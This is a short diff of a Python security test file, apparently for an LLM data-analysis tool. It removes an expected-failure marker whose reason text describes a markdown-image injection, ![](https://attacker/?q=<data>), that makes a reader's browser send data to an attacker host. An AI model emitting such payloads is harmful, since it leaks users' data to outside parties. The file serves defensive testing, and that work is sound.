@@ -658,10 +658,6 @@ def test_escape(bench: Bench, attack: Attack):
 
 
 @pytest.mark.timeout(120)
-@pytest.mark.xfail(strict=True, reason=(
-    "question.rs escapes HTML in the interpretation but leaves markdown images/links active: "
-    "an injected ![](https://attacker/?q=<data>) makes the reader's browser send data out. "
-    "Fix in show_interpretation (escape '![' / '](' or render the interpretation as text)."))
 def test_interpretation_markdown_image_exfiltration(bench: Bench):
     url = f"http://127.0.0.1:{bench.tcp_port}/?leak=revenue-total"
     reply, outputs = bench.ask("ATTACK-md-image", "result = float(df['revenue'].sum())",
